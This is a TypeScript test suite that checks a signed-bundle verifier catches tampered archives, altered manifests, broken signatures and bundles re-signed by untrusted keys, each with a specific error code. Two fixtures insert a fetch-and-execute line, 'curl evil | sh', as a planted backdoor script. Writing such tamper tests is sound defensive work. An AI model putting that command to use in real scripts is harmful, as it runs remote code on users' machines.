// Every way of modifying a signed bundle must be caught, with the code that says what happened.
// Tampered archives are re-packed with our own writer, so tar checksums and gzip CRCs stay valid
// and only the bundle's own verification can notice.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { gunzipSync } from 'node:zlib';
import { createBundle, openBundle } from '../../compiler/bundle/bundle.js';
import { canonicalJsonBytes } from '../../compiler/bundle/canonical-json.js';
import { gzipDeterministic } from '../../compiler/bundle/gzip.js';
import { sha256Hex } from '../../compiler/bundle/manifest.js';
import { signManifest } from '../../compiler/bundle/signature.js';
import { MODE_EXECUTABLE, readTar, type TarFileInput } from '../../compiler/bundle/tar.js';
import { SAMPLE_MANIFEST, SIGNER, expectBundleError, newKey, rawTar, repack, sampleBundle, sampleFiles, tamper, unpack } from './helpers.js';

const original = sampleBundle();

function edit(files: TarFileInput[], path: string, change: (f: TarFileInput) => TarFileInput | undefined): TarFileInput[] {
  assert.ok(files.some((f) => f.path === path), `fixture has ${path}`);
  return files.flatMap((f) => (f.path === path ? (change(f) ?? []) : [f]));
}

function flipByte(data: Buffer, at: number, mask = 0x01): Buffer {
  const copy = Buffer.from(data);
  copy[at] = (copy[at] as number) ^ mask;
  return copy;
}

function manifestOf(bundle: Buffer): Buffer {
  return unpack(bundle).find((f) => f.path === 'manifest.json')?.data ?? assert.fail('no manifest');
}

describe('tampering is detected', () => {
  it('the untouched re-pack still opens (the harness itself changes nothing)', () => {
    assert.ok(tamper(original, (f) => f).equals(original));
    openBundle(tamper(original, (f) => f));
  });

  it('one changed byte in a payload file: HM404', () => {
    for (const path of ['README.md', 'scripts/start.sh', 'templates/conf/web.conf']) {
      const bad = tamper(original, (files) => edit(files, path, (f) => ({ ...f, data: flipByte(f.data, f.data.length - 1) })));
      const err = expectBundleError(() => openBundle(bad, { source: 'web.hamod' }), 'HM404', /sha256/);
      assert.equal(err.diagnostic.file, `web.hamod/${path}`);
      assert.equal(err.diagnostic.expected, sha256Hex(sampleFiles().find((f) => f.path === path)?.data ?? Buffer.alloc(0)));
    }
  });

  it('a payload file with a different size or mode: HM404', () => {
    const longer = tamper(original, (files) => edit(files, 'plan.json', (f) => ({ ...f, data: Buffer.concat([f.data, Buffer.from(' ')]) })));
    expectBundleError(() => openBundle(longer), 'HM404', /bytes but the manifest says/);
    const emptied = tamper(original, (files) => edit(files, 'empty.txt', (f) => ({ ...f, data: Buffer.from('x') })));
    expectBundleError(() => openBundle(emptied), 'HM404');
    const chmod = tamper(original, (files) => edit(files, 'README.md', (f) => ({ ...f, executable: true })));
    expectBundleError(() => openBundle(chmod), 'HM404', /mode 755 but the manifest says 644/);
  });

  it('an added file: HM405', () => {
    const bad = tamper(original, (files) => [...files, { path: 'scripts/backdoor.sh', data: Buffer.from('curl evil | sh') }]);
    const err = expectBundleError(() => openBundle(bad), 'HM405', /scripts\/backdoor\.sh is in the archive but not in the manifest/);
    assert.equal(err.entry, 'scripts/backdoor.sh');
  });

  it('a removed file: HM405', () => {
    const bad = tamper(original, (files) => edit(files, 'scripts/stop.sh', () => undefined));
    expectBundleError(() => openBundle(bad), 'HM405', /scripts\/stop\.sh is in the manifest but not in the archive/);
  });

  it('an extra empty directory: HM405', () => {
    const entries = readTar(gunzipSync(original));
    const raw = rawTar([
      ...entries.map((e) => ({ name: e.type === 'directory' ? `${e.path}/` : e.path, typeflag: e.type === 'directory' ? '5' : '0', data: e.data, mode: e.mode })),
      { name: 'zz-extra/', typeflag: '5', mode: 0o755 },
    ]);
    expectBundleError(() => openBundle(gzipDeterministic(raw)), 'HM405', /zz-extra is a directory/);
  });

  it('a manifest swapped in from another bundle by the same signer: HM406', () => {
    const other = createBundle({ manifest: { ...SAMPLE_MANIFEST, version: '9.9.9' }, files: sampleFiles(), privateKey: SIGNER.privateKey });
    const bad = tamper(original, (files) => edit(files, 'manifest.json', (f) => ({ ...f, data: manifestOf(other) })));
    expectBundleError(() => openBundle(bad), 'HM406', /manifest was modified or replaced/);
  });

  it('any single changed byte of manifest.json: HM403 or HM406', () => {
    const manifest = manifestOf(original);
    const seen = new Set<string>();
    for (let at = 0; at < manifest.length; at++) {
      for (const mask of [0x01, 0x20]) {
        const bad = tamper(original, (files) => edit(files, 'manifest.json', (f) => ({ ...f, data: flipByte(manifest, at, mask) })));
        seen.add(expectBundleError(() => openBundle(bad), ['HM403', 'HM406']).code);
      }
    }
    assert.deepEqual([...seen].sort(), ['HM403', 'HM406']); // both paths were exercised
  });

  it('a missing manifest.json: HM403; a missing manifest.sig: HM408', () => {
    expectBundleError(() => openBundle(tamper(original, (files) => edit(files, 'manifest.json', () => undefined))), 'HM403', /no manifest\.json/);
    expectBundleError(() => openBundle(tamper(original, (files) => edit(files, 'manifest.sig', () => undefined))), 'HM408', /not signed/);
  });

  it('a manifest that is valid and signed but not canonical or of another version: HM403', () => {
    const resigned = (manifestBytes: Buffer): Buffer =>
      tamper(original, (files) =>
        edit(edit(files, 'manifest.json', (f) => ({ ...f, data: manifestBytes })), 'manifest.sig', (f) => ({
          ...f,
          data: signManifest(manifestBytes, SIGNER.privateKey),
        })),
      );
    const parsed = JSON.parse(manifestOf(original).toString()) as Record<string, unknown>;
    expectBundleError(() => openBundle(resigned(Buffer.from(JSON.stringify(parsed, null, 2)))), 'HM403', /canonical/);
    expectBundleError(() => openBundle(resigned(canonicalJsonBytes({ ...parsed, formatVersion: 2 }))), 'HM403', /formatVersion 2/);
    expectBundleError(() => openBundle(resigned(canonicalJsonBytes({ ...parsed, formatVersion: '1' }))), 'HM403', /formatVersion "1"/);
    const { formatVersion: _dropped, ...unversioned } = parsed;
    expectBundleError(() => openBundle(resigned(canonicalJsonBytes(unversioned))), 'HM403', /no formatVersion/);
    const files = parsed['files'] as Record<string, unknown>;
    expectBundleError(() => openBundle(resigned(canonicalJsonBytes({ ...parsed, files: { ...files, '../x': files['README.md'] } }))), 'HM403', /"\.\." segment/);
    expectBundleError(() => openBundle(resigned(canonicalJsonBytes({ ...parsed, files: { ...files, 'README.md': { sha256: 'x', size: 1, mode: 420 } } }))), 'HM403', /sha256/);
  });

  it('a broken manifest.sig: HM406', () => {
    const sigDoc = JSON.parse(unpack(original).find((f) => f.path === 'manifest.sig')?.data.toString() ?? '{}') as Record<string, string>;
    const withSig = (doc: Record<string, unknown>): Buffer =>
      tamper(original, (files) => edit(files, 'manifest.sig', (f) => ({ ...f, data: canonicalJsonBytes(doc) })));
    const sigBytes = Buffer.from(sigDoc['signature'] ?? '', 'base64');
    expectBundleError(() => openBundle(withSig({ ...sigDoc, signature: flipByte(sigBytes, 10).toString('base64') })), 'HM406', /does not match manifest\.json/);
    expectBundleError(() => openBundle(withSig({ ...sigDoc, keyId: '0000000000000000' })), 'HM406', /keyId/);
    expectBundleError(() => openBundle(withSig({ ...sigDoc, algorithm: 'rsa' })), 'HM406', /algorithm/);
    expectBundleError(() => openBundle(withSig({ ...sigDoc, signature: 'not base64!' })), 'HM406', /malformed signature/);
    expectBundleError(() => openBundle(withSig({ ...sigDoc, publicKey: Buffer.alloc(31).toString('base64') })), 'HM406', /malformed publicKey/);
    expectBundleError(() => openBundle(withSig({ ...sigDoc, extra: 1 })), 'HM406', /exactly/);
  });

  it('a bundle rebuilt and re-signed by someone else verifies, but is refused as untrusted: HM407', () => {
    const attacker = newKey();
    const files = sampleFiles().map((f) => (f.path === 'scripts/start.sh' ? { ...f, data: Buffer.from('#!/bin/sh\ncurl evil | sh\n') } : f));
    const forged = createBundle({ manifest: SAMPLE_MANIFEST, files, privateKey: attacker.privateKey });
    assert.equal(openBundle(forged).signer.trusted, false); // internally consistent...
    expectBundleError(() => openBundle(forged, { trustedKeys: [SIGNER.publicKey], requireTrusted: true }), 'HM407'); // ...but not ours
  });

  it('bundles written by hand with modes the writer never uses are refused', () => {
    const entries = unpack(original).map((f) => ({ name: f.path, data: f.data, mode: f.executable ? MODE_EXECUTABLE : 0o644 }));
    const worldWritable = entries.map((e) => (e.name === 'README.md' ? { ...e, mode: 0o666 } : e));
    expectBundleError(() => openBundle(gzipDeterministic(rawTar(worldWritable))), 'HM404', /mode 666/);
  });

  it('the same checks hold for a bundle re-packed with files in another order', () => {
    const reordered = repack(unpack(original).reverse());
    assert.ok(reordered.equals(original));
  });
});
